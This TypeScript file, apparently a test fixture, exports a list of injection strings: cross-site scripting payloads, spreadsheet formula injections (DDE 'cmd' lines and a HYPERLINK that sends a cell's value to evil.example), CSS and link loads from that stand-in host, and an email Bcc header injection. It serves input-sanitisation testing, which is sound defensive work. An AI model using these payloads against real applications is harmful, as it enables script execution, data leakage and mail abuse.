/**
 * What people type who want a program to run where their words are read: in the administrator's pages, in a mail, in a
 * spreadsheet. None is longer than the shortest field takes.
 */
export const scriptPayloads = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert&#40;1)</script>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext></form><img src onerror=alert(1)>',
  'javascript:alert(1)',
  'java\tscript:alert(1)//https://x.example',
  'data:text/html,<script>alert(1)</script>',
  '" autofocus onfocus="alert(1)" x="',
  "' autofocus onfocus='alert(1)' x='",
  '`><img src=`x`onerror=alert(1)>',
  '</textarea><script>alert(1)</script>',
  '</title></style><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  "{{constructor.constructor('alert(1)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what the visitor typed
  '${alert(1)} #{alert(1)} <%= alert(1) %>',
  '<style>*{background:url(//evil.example)}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '[x](javascript:alert(1)) ![x](//evil.example/x.png)',
  '＜script＞alert(1)＜/script＞ \u202e>tpircs<',
  '%3Cscript%3Ealert(1)%3C/script%3E &lt;b&gt;',
  "=cmd|' /C calc'!A0",
  '+1+HYPERLINK("//evil.example?"&A1,"x")',
  "-2+3+cmd|' /C calc'!A0",
  "\t@SUM(1+1)*cmd|' /C calc'!A0",
  'Eve\r\nBcc: all@evil.example\r\n\r\n=1+1<b>x</b>',
] as const

/** White space is shown as one space, and the spaces around a text are dropped when it is stored. */
export const asShown = (text: string) => text.replace(/\s+/g, ' ').trim()
